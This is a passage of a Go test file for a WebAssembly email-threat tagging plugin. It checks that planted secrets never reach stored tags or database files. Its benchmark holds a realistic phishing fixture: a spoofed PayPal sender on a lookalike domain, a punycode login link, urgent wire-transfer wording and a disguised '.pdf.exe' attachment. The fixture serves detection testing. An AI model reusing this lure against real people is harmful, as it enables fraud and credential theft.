		if fi, err := os.Stat(s); err == nil && fi.ModTime().After(st.ModTime()) {
			if ci {
				t.Fatalf("%s is older than %s: rebuild it with `make plugins`", wasm, s)
			}
			t.Skipf("%s is older than %s: rebuild it with `make plugins`", wasm, s)
		}
	}
	ctx := context.Background()
	quiet := slog.New(slog.NewTextHandler(io.Discard, nil))
	compiler, err := host.NewCompiler("")
	if err != nil {
		t.Fatal(err)
	}
	defer compiler.Close(ctx)
	d := dispatch.New(dispatch.Config{Logger: quiet})
	h, err := host.New(host.Config{Dispatcher: d, Compiler: compiler, Logger: quiet, PoolSize: 1})
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	keys := newPlugin(t).Manifest().EvidenceKeys
	rs := allKeysRules(t, keys)
	changes := make([]rules.Change, len(rs))
	for i, r := range rs {
		changes[i] = rules.Change{Op: rules.RuleUpdated, ID: r.ID, Rule: r}
	}
	if err := h.ApplyRules(ctx, changes...); err != nil {
		t.Fatal(err)
	}
	if err := h.LoadPlugin(ctx, wasm); err != nil {
		t.Fatal(err)
	}
	if ps := h.Plugins(); len(ps) != 1 || ps[0].Rules != len(ruleIDs) {
		t.Fatalf("plugins %+v, want email.wasm with %d rules", ps, len(ruleIDs))
	}

	dbPath := filepath.Join(t.TempDir(), "ttp.db")
	s, err := store.Open(ctx, dbPath)
	if err != nil {
		t.Fatal(err)
	}
	allowed := allowedValues(rs)
	evs, secrets := leakEvents()
	seen := map[string]bool{}
	for _, ev := range evs {
		tags, err := d.Tag(ctx, ev, nil)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := s.InsertTags(ctx, ev.SourceKind, ev.SourceID, tags); err != nil {
			t.Fatal(err)
		}
	}
	if n := d.Stats.HandlerErrors.Load(); n != 0 {
		t.Fatalf("%d handler errors: the plugin failed on a leak event", n)
	}
	stored, err := s.Tags(ctx, store.Filter{})
	if err != nil {
		t.Fatal(err)
	}
	for _, tag := range stored {
		seen[tag.RuleID] = true
		if len(tag.Evidence) == 0 {
			t.Errorf("%s: stored without evidence: the test would prove nothing", tag.RuleID)
		}
		js, err := abi.CanonicalJSON(map[string]any{"evidence": tag.Evidence, "rule_id": tag.RuleID, "technique_id": tag.TechniqueID})
		if err != nil {
			t.Fatal(err)
		}
		checkNoLeak(t, tag.RuleID+" stored tag", string(js), secrets)
		checkShapes(t, tag.RuleID, tag.Evidence, allowed)
	}
	for _, id := range ruleIDs {
		if !seen[id] {
			t.Errorf("%s: no stored tag from the leak events", id)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	files, _ := filepath.Glob(dbPath + "*")
	for _, f := range files {
		raw, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		for _, sec := range secrets {
			if sec == "@" || sec == "http" || sec == "user:" || sec == "session=" || sec == "%40" {
				continue // too short to mean anything in a binary file
			}
			if strings.Contains(strings.ToLower(string(raw)), strings.ToLower(sec)) {
				t.Errorf("database file %s holds %q", filepath.Base(f), sec)
			}
		}
	}
}

// TestTagAllocs pins that the lifter allocates nothing per event on its conform vectors: in
// the guest an allocation is runtime loops (termination checks), and garbage grows the
// instance's memory, which ttp conform bounds.
func TestTagAllocs(t *testing.T) {
	p := newPlugin(t)
	vs, err := conform.LoadVectors("../../testdata/vectors/email")
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range vs {
		b, err := abi.CanonicalJSON(v.Event)
		if err != nil {
			t.Fatal(err)
		}
		ev, err := abi.DecodeEvent(b)
		if err != nil {
			continue // a vector of a malformed event
		}
		if n := p.TagAllocs(ev, 20); n != 0 {
			t.Errorf("%s: %.1f allocations a call, want 0", v.Name, n)
		}
	}
}

func BenchmarkTag(b *testing.B) {
	p := newPlugin(b)
	body := "Hello,\n\nPlease process the attached invoice before noon today. I am in a board meeting and cannot take calls, reply by email only.\n\nhttps://xn--pypal-4ve.example/login?id=7731\n"
	ev := emailEvent("bench", map[string]any{
		"from":        "security@paypa1-support.example",
		"return_path": "bounce-7731@mailer.example.net",
		"rcpt":        strs("billing@decoy-corp.example", "ceo@decoy-corp.example"),
		"subject":     "Urgent: wire transfer needed today",
		"headers": map[string]any{
			"from":         `"PayPal Security" <security@paypa1-support.example>`,
			"to":           "billing@decoy-corp.example",
			"subject":      "Urgent: wire transfer needed today",
			"date":         "Fri, 27 Nov 2026 04:01:00 +0000",
			"message-id":   "<20261127040100.7731@mailer.example.net>",
			"x-mailer":     "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
			"received":     "from mailer.example.net ([198.51.100.7]) by smtp-ams-01 with ESMTP; Fri, 27 Nov 2026 04:01:01 +0000\nfrom [10.0.0.5] by mailer.example.net; Fri, 27 Nov 2026 04:00:59 +0000",
			"content-type": `multipart/mixed; boundary="b1"`,
		},
		"body_text":          body,
		"body_sha256":        "2d91d41f141a3c0b6eb10acf146733d496a9baa2c190c689aa40ef2dadc8f2fc",
		"body_simhash":       "c3a5f0e19b2d4476",
		"simhash_seen_count": 214,
		"urls":               strs("https://xn--pypal-4ve.example/login?id=7731"),
		"attachments": []any{map[string]any{"filename": "invoice_7731.pdf.exe", "content_type": "application/octet-stream",
			"sha256": "e34fbba48f58fe8829381c119d83ac6ed06201e39a7f10311bdd1cc7881a877f", "size": 48213}},
		"dkim": "none",
		"spf":  "softfail",
	})
	b.ReportAllocs()
	b.ResetTimer()
	for b.Loop() {
		if _, err := p.Tag(ev); err != nil {
			b.Fatal(err)
		}
	}
}
